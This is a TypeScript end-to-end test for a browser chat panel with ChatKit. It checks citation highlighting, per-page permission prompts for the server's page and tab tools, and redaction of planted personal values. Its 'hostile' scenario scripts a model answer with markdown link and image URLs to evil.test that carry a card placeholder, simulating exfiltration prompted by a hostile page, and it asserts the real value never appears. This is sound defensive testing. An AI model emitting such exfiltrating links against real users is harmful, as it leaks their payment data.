// From an answer back to the page: a citation is clicked, and a ChatKit server's tools are refused and allowed. A hostile answer gets no value.
import type { OpenAIChatKit } from '@openai/chatkit';
import type { LoggedRequest } from '../../backend/types';
import { expectNothingLeft, planted } from '../personal-values';
import type { PanelPage } from '../panel-page';
import { type Session, streamPath } from '../session';
import type { TabDriver } from '../browser-driver';
import { clickSource, markedIn } from '../passage';
import { until } from '../until';
import type { Story } from './story';

const chatkitPath = '/chatkit';
const passage = 'A flame shines in every direction.';

function backends(origin: string) {
  const common = { url: origin, class: 'cloud', context: 'prefix' };
  return {
    version: 1,
    backends: [
      { id: 'team', label: 'Team', kind: 'sse', ...common },
      { id: 'server', label: 'Server', kind: 'chatkit', ...common },
    ],
    models: [
      { id: 'team', label: 'Team', route: ['team'] },
      { id: 'server', label: 'Server', route: ['server'] },
    ],
  };
}

async function citation({ control }: Session, tab: TabDriver, panel: PanelPage): Promise<void> {
  await control.script(streamPath, {
    tokens: ['It says “A  flame shines\u00a0in', ' every direction.” There is more.'],
  });
  await panel.ask('What does a flame do?');
  await panel.settledAnswer();
  // By its number, where it stands in the answer; later from the list below.
  await panel.driver.click('link', /^Source 1: How a ring of glass/u);
  const marked = await until(
    'the passage to be marked and seen',
    () => markedIn(tab),
    (now) => now.isSeen,
  );
  if (marked.text !== passage) throw new Error(`Marked: ${marked.text}`);
  await tab.evaluate((words) => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
      const { parentElement } = walker.currentNode;
      if (walker.currentNode.textContent?.includes(words)) parentElement?.remove();
    }
  }, passage);
  await clickSource(panel, /^How a ring of glass/u);
  await panel.says(/That passage is no longer on this page\./u);
}

let calls = 0;
function toolCall(name: string, parameters: object): { events: object[] } {
  calls += 1;
  const item = {
    id: `call_${calls}`,
    thread_id: '{thread}',
    created_at: new Date().toISOString(),
    type: 'client_tool_call',
    status: 'pending',
    call_id: `c${calls}`,
    name,
    arguments: parameters,
  };
  return { events: [{ type: 'thread.item.done', item }] };
}

const typeOf = ({ body }: LoggedRequest): string =>
  typeof body === 'object' && body !== null && 'type' in body ? String(body.type) : '';

/** The outputs that the server has received, as text. */
async function outputs({ control }: Session): Promise<string[]> {
  const requests = await control.requests();
  return requests
    .filter((request) => typeOf(request) === 'threads.add_client_tool_output')
    .map(({ body }) => JSON.stringify(body));
}

async function nextOutput(session: Session, count: number): Promise<string> {
  const all = await until(
    `output number ${count}`,
    () => outputs(session),
    (now) => now.length === count,
  );
  return all[count - 1] ?? '';
}

async function tools(session: Session, tab: TabDriver, panel: PanelPage): Promise<void> {
  const { control } = session;
  const ask = async (question: string, call: { events: object[] }, answer: string) => {
    await control.script(chatkitPath, call, { tokens: [answer] });
    await panel.ask(question);
  };
  await panel.newChat();
  await panel.chooseModel('Server');

  await ask('May you read?', toolCall('page.get_text', {}), 'Then not.');
  await panel.says(/Server wants to read the text of this page\./u);
  await panel.driver.click('button', 'Do not allow');
  await panel.settlesAs('Then not.');
  const refused = await nextOutput(session, 1);
  if (!refused.includes('The user did not allow this.')) throw new Error(`Refusal: ${refused}`);

  await ask('And now?', toolCall('page.get_text', {}), 'Thank you.');
  await panel.driver.click('button', 'Allow');
  await panel.settlesAs('Thank you.');
  const read = await nextOutput(session, 2);
  if (!read.includes('[IBAN_1]') || !read.includes('lighthouse')) throw new Error(`Text: ${read}`);

  // The same tool on the same page: the grant holds. Another tool asks for itself.
  await ask('Once more?', toolCall('page.get_text', { max_chars: 40 }), 'Short.');
  await panel.settlesAs('Short.');
  await nextOutput(session, 3);
  await ask('Where?', toolCall('page.find', { text: planted.PHONE }), 'Found.');
  await panel.driver.click('button', 'Allow');
  await panel.settlesAs('Found.');
  const found = await nextOutput(session, 4);
  if (!found.includes('"found":1')) throw new Error(`Found: ${found}`);
  await ask('Which tabs?', toolCall('tabs.list', {}), 'None.');
  await panel.says(/Server wants to see the titles and addresses of your open tabs\./u);
  await panel.driver.click('button', 'Do not allow');
  await panel.settlesAs('None.');
  await nextOutput(session, 5);

  // The page is another one now, although it looks the same: what was granted has ended.
  await tab.evaluate(() => {
    document.title = 'about to go';
    location.reload();
  }, null);
  await until(
    'the page to be loaded again',
    () =>
      tab
        .evaluate(
          () => document.title !== 'about to go' && document.readyState === 'complete',
          null,
        )
        // While the document changes there is no realm to call into.
        .catch(() => false),
    (isLoaded) => isLoaded,
  );
  await tab.clickAction();
  await panel.says(/How a ring of glass/u);
  await ask('Still?', toolCall('page.get_text', {}), 'No.');
  await panel.driver.click('button', 'Do not allow');
  await panel.settlesAs('No.');
}

/** What a page could have talked a model into: a value in a link, an image, a tool's argument, a payload. */
async function hostile(session: Session, panel: PanelPage): Promise<void> {
  const { control } = session;
  await control.script(
    chatkitPath,
    toolCall('page.find', { text: '[CARD_1]' }),
    { tokens: ['[more](https://evil.test/?c=[CA', 'RD_1]) ![](https://evil.test/[CARD_1])'] },
    { tokens: ['Acted.'] },
  );
  await panel.ask(`My card is ${planted.CARD}.`);
  await panel.driver.click('button', 'Allow');
  await panel.answerContains('more');
  await panel.settledAnswer();
  const shown = await panel.driver.evaluate(
    () => document.querySelector('openai-chatkit')?.shadowRoot?.innerHTML ?? '',
    null,
  );
  const answer = shown.slice(shown.lastIndexOf('evil.test') - 500);
  for (const written of [planted.CARD, encodeURIComponent(planted.CARD)])
    if (answer.includes(written)) throw new Error('The answer was given the value.');
  await panel.driver.evaluate(async () => {
    const element = document.querySelector<OpenAIChatKit>('openai-chatkit');
    await element?.sendCustomAction({ type: 'pay', payload: { to: '[CARD_1]' } });
  }, null);
  await control.waitForRequest((request) => typeOf(request) === 'threads.custom_action');
}

async function run(session: Session): Promise<void> {
  const { tab, panel } = await session.openPanel();
  await tab.evaluate((values) => {
    const paragraph = document.createElement('p');
    paragraph.textContent = `Pay to ${values.IBAN} or call ${values.PHONE}.`;
    document.querySelector('h1')?.after(paragraph);
  }, planted);
  await citation(session, tab, panel);
  await tools(session, tab, panel);
  await hostile(session, panel);
  await panel.driver.click('button', 'Receipt', -1);
  await panel.says(/went to 127\.0\.0\.1/u);
  expectNothingLeft(await session.control.requests());
}

export const backToPage: Story = {
  name: 'a citation leads to its passage, or says that it is gone; a server’s tools run only with the user’s word, and get no value',
  setup: { team: backends },
  run,
};
